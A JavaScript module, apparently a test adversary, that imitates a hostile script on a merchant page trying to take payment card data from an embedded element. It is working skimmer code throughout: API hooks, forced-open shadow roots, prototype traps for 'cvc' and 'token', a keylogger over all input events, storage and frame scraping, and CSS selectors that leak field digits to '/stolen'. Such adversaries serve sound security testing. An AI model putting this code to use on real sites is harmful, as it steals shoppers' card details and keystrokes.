// A hostile script of a merchant's page: runs before the element's own, and takes all that it
// can get hold of by every way a page has. What it took is `window.loot`, texts.

export function steal() {
  const loot = [];
  window.loot = loot;
  const seen = new WeakSet([loot]);
  const take = (from, value, depth = 0) => {
    if (value === null || value === undefined || depth > 4) return;
    if (typeof value === "object") {
      if (seen.has(value)) return;
      seen.add(value);
      let names = [];
      try { names = Object.getOwnPropertyNames(value); } catch (error) { return; }
      for (const name of names) {
        try { take(`${from}.${name}`, value[name], depth + 1); } catch (error) { /* Of another origin. */ }
      }
    } else if (typeof value !== "function") loot.push(`${from}: ${value}`);
  };

  // Every call of what scripts talk, type and draw by, with its arguments.
  const trap = (owner, name, from) => {
    const original = owner?.[name];
    if (typeof original !== "function") return;
    owner[name] = function (...values) {
      take(from ?? name, values);
      const result = Reflect.apply(original, this, values);
      if (typeof result === "string") take(`${name}()`, result);
      return result;
    };
  };
  const accessor = (owner, name) => {
    const { get, set } = Object.getOwnPropertyDescriptor(owner, name);
    Object.defineProperty(owner, name, {
      configurable: true,
      get() {
        const value = Reflect.apply(get, this, []);
        take(name, value);
        return value;
      },
      set(value) {
        take(name, value);
        if (name === "onmessage" && typeof value === "function") {
          const heard = value;
          value = function (event) { take("heard", event.data); return heard.call(this, event); };
        }
        return Reflect.apply(set, this, [value]);
      },
    });
  };
  const roots = [];
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = Reflect.apply(attachShadow, this, [{ ...init, mode: "open" }]);
    roots.push(root);
    return root;
  };
  const ports = [];
  const Channel = window.MessageChannel;
  window.MessageChannel = function () {
    const channel = new Channel();
    ports.push(channel.port1, channel.port2);
    for (const port of [channel.port1, channel.port2]) trap(port, "postMessage", "said");
    return channel;
  };
  accessor(MessagePort.prototype, "onmessage");
  accessor(HTMLInputElement.prototype, "value");
  accessor(Node.prototype, "textContent");
  trap(MessagePort.prototype, "postMessage", "said");
  trap(JSON, "parse");
  trap(JSON, "stringify");
  trap(TextEncoder.prototype, "encode");
  trap(TextDecoder.prototype, "decode");
  trap(EventTarget.prototype, "dispatchEvent");
  trap(Element.prototype, "setAttribute");
  trap(Element.prototype, "append");
  trap(String.prototype, "replace");
  trap(Map.prototype, "set");
  trap(Reflect, "get");
  trap(window, "fetch");
  trap(XMLHttpRequest.prototype, "send");
  const CustomEventOf = window.CustomEvent;
  window.CustomEvent = class extends CustomEventOf {
    constructor(type, init) {
      take("event", [type, init?.detail]);
      super(type, init);
    }
  };
  for (const name of ["cvc", "card", "last_four", "expiry", "token", "number"]) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        take(`Object.prototype.${name}`, value);
        Object.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
      },
    });
  }

  // Every event that is heard anywhere in the page.
  for (const type of ["keydown", "keyup", "keypress", "beforeinput", "input", "change", "paste", "copy", "selectionchange", "focusin", "compositionend", "message", "submit"]) {
    window.addEventListener(
      type,
      (event) => {
        const [target] = event.composedPath?.() ?? [];
        take(type, [event.key, event.data, target?.value, event.detail]);
        if (type === "message" && event.source) window.framed = event.source;
        if (event.ports) for (const port of event.ports) ports.push(port);
      },
      true,
    );
  }

  // All that is there to be read, again and again: also through frames and windows.
  const walk = (node) => {
    if (!node) return;
    if (node.value !== undefined && node.localName === "input") take("field", node.value);
    if (node.nodeType === Node.TEXT_NODE) take("text", node.data);
    if (node.shadowRoot) walk(node.shadowRoot);
    if (node.localName === "iframe") {
      for (const reach of [
        () => walk(node.contentDocument),
        () => walk(node.contentWindow.document),
        () => take("name", node.contentWindow.name),
        () => take("address", node.contentWindow.location.href),
        () => node.contentWindow.eval("1"),
        () => walk(node.getSVGDocument()),
        () => take("global", node.contentWindow.customElements),
        () => take("storage", node.contentWindow.localStorage),
      ]) {
        try { reach(); } catch (error) { /* Of another origin. */ }
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
  };
  const look = () => {
    for (const root of [document, ...roots]) walk(root);
    for (let index = 0; index < window.length; index += 1) {
      try { walk(window[index].document); } catch (error) { /* Of another origin. */ }
    }
    take("selected", String(getSelection()));
    take("stored", { ...localStorage, ...sessionStorage });
    for (const { name } of performance.getEntriesByType("resource")) take("asked", name);
    requestAnimationFrame(look);
  };
  requestAnimationFrame(look);

  // Styles that would ask for an address by what a field or an attribute has.
  const rules = Array.from({ length: 10 }, (_, digit) => `input[value^="${digit}"], [value*="${digit}"] { background: url("/stolen?${digit}") }`);
  document.addEventListener("DOMContentLoaded", () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(rules.join("\n"));
    document.adoptedStyleSheets.push(sheet);
    for (const root of roots) root.adoptedStyleSheets.push(sheet);
  });
}
